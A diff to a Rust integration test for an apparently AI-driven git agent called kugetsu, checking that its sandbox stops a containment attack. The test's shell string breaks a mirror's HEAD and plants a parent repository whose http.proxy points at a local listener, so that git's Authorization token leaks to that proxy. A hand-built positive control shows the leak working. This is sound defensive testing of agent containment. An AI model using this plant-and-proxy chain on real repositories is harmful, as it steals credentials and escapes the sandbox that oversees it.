@@ -218,11 +218,12 @@ async fn a_repository_planted_above_the_mirror_never_gets_the_token() {
     let origin = format!("{}/acme/widget.git", http.url());
     // The attack from the containment issue: break the mirror's HEAD so git no
     // longer sees a repository there, and plant one above it whose origin is the
-    // real forge and whose proxy is ours.
+    // real forge and whose proxy is ours. Each step runs even if one before it
+    // fails; the last one writes in the agent's own working copy (the control).
     let attack = format!(
-        "echo garbage > {m}/HEAD && git init -q {p} && git -C {p} config remote.origin.url {origin} && \
-         git -C {p} config http.proxy http://127.0.0.1:{proxy} && \
-         git -C {p} config remote.origin.fetch '+refs/heads/*:refs/remotes/origin/*' && echo planted > planted.txt",
+        "echo garbage > {m}/HEAD; git init -q {p}; git -C {p} config remote.origin.url {origin}; \
+         git -C {p} config http.proxy http://127.0.0.1:{proxy}; \
+         git -C {p} config remote.origin.fetch '+refs/heads/*:refs/remotes/origin/*'; echo planted > planted.txt",
         m = mirror.display(),
         p = parent.display(),
     );
@@ -231,15 +232,29 @@ async fn a_repository_planted_above_the_mirror_never_gets_the_token() {
     assert_eq!(gh(&gh_comment(94, 2801, "@kugetsu MARK-PLANT", "alice"), "p-1").post(&t.url("web")).await.0, 202);
     let comments = t.forge.wait_for_comments("acme/widget", 94, 1).await;
     assert!(comments[0].body.contains("planted"), "{}", comments[0].body);
-    assert!(parent.join(".git/config").exists(), "the attack ran: the repository above the mirror is there");
+    assert!(!parent.join(".git").exists(), "the sandbox kept the agent from planting a repository above the mirror");
+    let head = std::fs::read_to_string(mirror.join("HEAD")).unwrap_or_default();
+    assert!(head.starts_with("ref: refs/heads/"), "nor break the mirror: {head}");
     // A second run fetches again through the same mirror.
     assert_eq!(gh(&gh_comment(94, 2802, "@kugetsu MARK-AFTER", "alice"), "p-2").post(&t.url("web")).await.0, 202);
     let comments = t.forge.wait_for_comments("acme/widget", 94, 2).await;
     assert!(comments[1].body.contains("after the plant"), "{}", comments[1].body);
     let remote = served.path().join("acme/widget.git");
-    assert!(support::git(&remote, &["show", "kugetsu/94:planted.txt"]).contains("planted"), "the work was pushed");
+    assert!(support::git(&remote, &["show", "kugetsu/94:planted.txt"]).contains("planted"), "the control was pushed");
     assert!(seen.lock().unwrap().is_empty(), "kugetsu's git never went through the planted proxy: {:?}", seen.lock());
 
+    // Positive control: planted by hand, as the agent could not, the chain works
+    // for a git that discovers its repository from the mirror's directory, as
+    // kugetsu's once did: it walks into the planted one and sends its
+    // Authorization header to the proxy.
+    for args in [
+        vec!["init", "-q"],
+        vec!["config", "remote.origin.url", origin.as_str()],
+        vec!["config", "http.proxy", &format!("http://127.0.0.1:{proxy}")],
+    ] {
+        let status = std::process::Command::new("git").current_dir(&parent).args(&args).status().unwrap();
+        assert!(status.success(), "{args:?}");
+    }
     // Positive control: a git that discovers its repository from the mirror's
     // directory, as kugetsu's did, walks into the planted one and sends its
     // Authorization header to the proxy.
